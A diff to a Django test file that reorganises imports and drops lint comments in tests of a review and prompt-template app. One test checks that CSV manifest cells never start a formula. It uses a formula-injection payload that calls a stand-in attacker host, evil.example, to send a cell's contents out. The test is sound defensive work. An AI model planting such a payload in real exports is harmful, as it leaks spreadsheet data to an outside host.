@@ -13,7 +13,7 @@ from django.core.files.storage import default_storage
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
-from tests.webapp.reviews.helpers import image, make_image, membership  # noqa: F401 - fixtures
+from tests.helpers import membership
 from webapp.core import bounds
 from webapp.prompt_templates.models import PromptTemplate
 from webapp.reviews import services as review_services
@@ -68,7 +68,7 @@ def test_template_import_refuses_deeply_nested_json(client_for, project, alice, 
     assert b"nested" in response.content or b"JSON export" in response.content
 
 
-def test_review_texts_are_bounded_by_the_services_not_only_the_forms(project, image, alice, bob):  # noqa: F811
+def test_review_texts_are_bounded_by_the_services_not_only_the_forms(project, image, alice, bob):
     with pytest.raises(ValidationError) as raised:
         review_services.review_request_create(
             actor=membership(bob, project), project=project, kind=AssetKind.IMAGE, asset_ids=[image.pk],
@@ -89,7 +89,7 @@ def test_review_texts_are_bounded_by_the_services_not_only_the_forms(project, im
 
 
 @pytest.mark.usefixtures("redis_server")
-def test_manifest_csv_cells_never_start_a_formula(project, make_image, alice, bob, carol):  # noqa: F811
+def test_manifest_csv_cells_never_start_a_formula(project, make_image, alice, bob, carol):
     attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     approved = make_image(project=project, author=bob, prompt=attack, negative_prompt="+1+1")
     (review,) = review_services.review_request_create(
